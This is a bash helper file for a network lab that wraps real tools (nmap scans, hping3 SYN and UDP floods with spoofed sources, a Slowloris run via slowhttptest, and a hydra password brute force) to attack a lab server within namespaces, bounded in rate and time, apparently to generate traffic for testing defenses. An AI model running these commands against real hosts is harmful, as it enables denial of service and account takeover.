# SPDX-License-Identifier: BSD-2-Clause
# shellcheck shell=bash
# Attacks of the lab, made by real tools, bounded in rate and time. Needs lib.sh and servers.sh.
#
# attack_KIND NAME SECONDS RATE: namespace NAME attacks the server for that long with RATE packets, connections or guesses
# per second. Floods also take PORT and further options of hping3.

# Probes for open ports that never finish a handshake.
attack_scan_syn() { attack_nmap "$@" -sS -p 1-65535 "$SERVER"; }
# The same with whole connections, as a scanner without root has to.
attack_scan_connect() { attack_nmap "$@" -sT -r -p 1-65535 "$SERVER"; } # in order: see docs/demo.md
attack_scan_udp() { attack_nmap "$@" -sU -p 1-65535 "$SERVER"; }
# A few ports of many addresses.
attack_sweep_syn() { attack_nmap "$@" -sS -p 21-25,80,443,8000-8080 "10.$LAB_NET.0.128/25"; }
attack_sweep_connect() { attack_nmap "$@" -sT -p 21-25,80,443,8000-8080 "10.$LAB_NET.0.128/25"; }

attack_nmap() {
	in_ns "$1" timeout "$2" nmap -n -Pn --min-rate "$3" --max-rate "$3" --max-retries 1 "${@:4}" || true
}

# SYNs from the attacker's own address, from one port after the other.
attack_flood_syn() { attack_hping "$1" "$2" "$3" --syn --destport "${4:-$HTTP_PORT}" "${@:5}"; }
# SYNs from invented addresses.
attack_flood_random() { attack_hping "$1" "$2" "$3" --syn --rand-source --destport "${4:-$HTTP_PORT}" "${@:5}"; }
attack_flood_udp() { attack_hping "$1" "$2" "$3" --udp --destport "${4:-53}" "${@:5}"; }
attack_flood_udp_rand() { attack_hping "$1" "$2" "$3" --udp --rand-source --destport "${4:-53}" "${@:5}"; }

attack_hping() {
	in_ns "$1" timeout --signal INT "$2" hping3 --quiet --interval "u$((1000000 / $3))" "${@:4}" "$SERVER" || true
}

# Slowloris: opens connections and never finishes a request.
attack_slow_http() {
	in_ns "$1" timeout "$2" slowhttptest -H -c 400 -r "$3" -i 3 -x 24 -p 3 -l "$2" -v 0 -u "http://$SERVER:$HTTP_PORT/" || true
}

# Guesses passwords, sixteen at a time, each in a connection of its own.
attack_brute_force() {
	local tasks=$(($3 < 16 ? $3 : 16))
	cd "$LAB_DIR"
	printf 'guess%d\n' {1..5000} >"$1.words"
	in_ns "$1" timeout "$2" hydra -I -l admin -P "$1.words" -t "$tasks" -W 1 -s "$HTTP_PORT" "$SERVER" http-get /private/ || true
}
